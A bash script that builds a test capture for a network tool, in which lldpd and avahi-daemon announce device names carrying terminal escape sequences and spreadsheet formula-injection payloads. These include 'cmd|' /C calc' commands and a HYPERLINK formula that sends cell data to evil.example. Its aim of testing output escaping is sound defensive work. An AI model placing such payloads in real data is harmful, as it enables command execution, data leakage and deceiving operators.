#!/usr/bin/env bash
# Records test-fixtures/hostile-names.pcap: real software announcing names built to attack whoever
# shows them. lldpd sends LLDP system names and avahi-daemon mDNS host names carrying terminal escape
# sequences (screen clear, OSC title, OSC 8 hyperlink, BEL, a C1 CSI, a bidi override) and spreadsheet
# formulas (=HYPERLINK, +cmd|, -2+3+cmd|, @SUM, a TAB before =). auscult must store them exactly and
# escape them in every output (agent/output/). Neither program can send a NUL inside a name (both
# take C strings): NUL is covered by the unit tests of the escaping.
# Run as root: sudo bash test-fixtures/make-hostile-fixtures.sh   (idempotent; about 20 s)
# HOSTILE_DEBUG=1 keeps the working directory (configurations, logs, the capture) in /tmp.
#
# Topology (network namespaces acl-hn-<name>, a Linux bridge in acl-hn-sw; MACs fixed, OUIs real):
#   swc   Cisco         10.31.0.2   lldpd: terminal escapes in the system name and description
#   phone Polycom       10.31.0.41  lldpd: =HYPERLINK(...) as system name
#   pump  BD            10.31.0.61  lldpd: TAB then -2+3+cmd|' /C calc'!A0 as system name
#   prn   HP            10.31.0.20  avahi-daemon: @SUM(1+1)*cmd|' /C calc'!A0 as host name
#   mon   Philips       10.31.0.31  avahi-daemon: +cmd|' /C calc'!A0 as host name
#   ws    Intel         10.31.0.50  avahi-daemon: terminal escapes in the host name
set -euo pipefail

OUT=$(cd "$(dirname "$0")" && pwd)
# shellcheck source-path=SCRIPTDIR source=netns-lib.sh
. "$OUT/netns-lib.sh"
need_root
declare -A PKG=([ip]=iproute2 [tcpdump]=tcpdump [tshark]=tshark [lldpd]=lldpd [avahi-daemon]=avahi-daemon [ethtool]=ethtool)
need_tools

P=acl-hn
HOSTS=(sw swc phone pump prn mon ws)
declare -A MAC=(
  [swc]=00:1a:a1:2f:00:02    # Cisco Systems, Inc
  [phone]=64:16:7f:2f:00:41  # Polycom
  [pump]=9c:c8:ae:2f:00:61   # Becton, Dickinson and Company
  [prn]=3c:52:82:2f:00:20    # Hewlett Packard
  [mon]=00:09:fb:2f:00:31    # Philips Patient Monitoring
  [ws]=00:1b:21:2f:00:50     # Intel Corporate
)
declare -A IP=([swc]=10.31.0.2 [phone]=10.31.0.41 [pump]=10.31.0.61 [prn]=10.31.0.20 [mon]=10.31.0.31 [ws]=10.31.0.50)
ONLY="hostile"
ETHTOOL_OFF=(tx off tso off gso off gro off)

start_run HOSTILE_DEBUG
make_hosts
for h in "${HOSTS[@]}"; do mkdir -p "$T/$h/run/lldpd" "$T/$h/empty"; done
make_bridge mcast_snooping 0
# The bridge would otherwise not forward the LLDP group address 01:80:c2:00:00:0e (bit 14).
x sw sh -c 'echo 0x4000 >/sys/class/net/br0/bridge/group_fwd_mask'
for h in swc phone pump prn mon ws; do attach_host "$h"; done

# In the namespace with the host's private /run and an empty /etc/avahi/services (as in make-evidence-fixtures.sh).
bgr() {
  local h=$1; shift
  ip netns exec "$P-$h" sh -c 'mount --bind "$0/run" /run && mount --bind "$0/empty" /etc/avahi/services && exec "$@"' "$T/$h" "$@" &
  BG+=($!)
}

# ---------------------------------------------------------------- LLDP names (lldpd configuration files)
ESC=$'\e'
BEL=$'\a'
# Clear the screen and the scrollback, set the window title, an OSC 8 hyperlink to a phishing page,
# a C1 CSI (U+009B, two bytes in UTF-8) starting "31m", a right-to-left override before "exe.txt".
TERMINAL_NAME="ward3-sw${ESC}[2J${ESC}[3J${ESC}]0;owned${BEL}${ESC}]8;;http://evil.example/${ESC}\\click-me${ESC}]8;;${ESC}\\"$'\xc2\x9b'"31m"$'\xe2\x80\xae'"txt.exe"
TERMINAL_DESCR="Example switch${ESC}[1A${ESC}[2K${BEL} firmware 1.0"
# lldpcli reads the configuration file line by line: the values go in double quotes, with \" inside.
printf 'configure system hostname "%s"\nconfigure system description "%s"\nconfigure lldp tx-interval 1\n' \
  "${TERMINAL_NAME//\\/\\\\}" "$TERMINAL_DESCR" >"$T/swc/lldpd.conf"
printf 'configure system hostname "%s"\nconfigure system description "VVX 411"\nconfigure lldp tx-interval 1\n' \
  '=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")' >"$T/phone/lldpd.conf"
printf 'configure system hostname "%s"\nconfigure system description "Alaris 8015"\nconfigure lldp tx-interval 1\n' \
  $'\t'"-2+3+cmd|' /C calc'!A0" >"$T/pump/lldpd.conf"

# ---------------------------------------------------------------- mDNS names (avahi-daemon.conf, \DDD decimal escapes)
declare -A AVAHI_NAME=(
  [prn]="@SUM(1+1)*cmd|' /C calc'!A0"
  [mon]="+cmd|' /C calc'!A0"
  # ESC [2J, ESC ]0;owned BEL, C1 CSI 31m, RLO: clear, retitle, colour, reverse.
  [ws]='ws-nurse\027[2J\027]0;owned\007\194\15531m\226\128\174exe-gpj'
)
# Only what differs from avahi 0.8's defaults (which publish the A record and no HINFO or workstation).
for h in prn mon ws; do
  printf '[server]\nhost-name=%s\nuse-ipv6=no\nallow-interfaces=eth0\nenable-dbus=no\n[wide-area]\nenable-wide-area=no\n' \
    "${AVAHI_NAME[$h]}" >"$T/$h/avahi-daemon.conf"
done

fresh_arp
start_capture hostile-names.pcap
log "hostile-names.pcap: lldpd on swc, phone, pump; avahi-daemon on prn, mon, ws"
for h in swc phone pump; do
  bgr "$h" lldpd -d -I eth0 -C eth0 -u /run/lldpd.socket -O "$T/$h/lldpd.conf" >"$T/$h/lldpd.log" 2>&1
done
for h in prn mon ws; do
  bgr "$h" avahi-daemon --file="$T/$h/avahi-daemon.conf" --no-drop-root --no-chroot --no-rlimits >"$T/$h/avahi.log" 2>&1
  wait_for "$T/$h/avahi.log" 'Server startup complete'
done
sleep 4   # avahi announces at once, then after 1 s and 2 s; lldpd every second
stop_captures
stop_bg

# Each name went out as configured (tshark prints control characters as \ooo or \uXXXX escapes).
check hostile-names.pcap "-V" 'System Name = ward3-sw\033[2J' ']0;owned\a' 'http://evil.example/' '\u009B31m\u202Etxt.exe' \
  'System Name = =HYPERLINK("http://evil.example/?leak="&A1,"Click me")' "System Name = \\t-2+3+cmd|' /C calc'!A0" \
  'System Description = Example switch\033[1A' \
  "@SUM(1+1)*cmd|' /C calc'!A0.local" "+cmd|' /C calc'!A0.local" 'ws-nurse\033[2J\033]0;owned\a\u009B31m\u202Eexe-gpj.local'
copy_captures "$OUT" 22
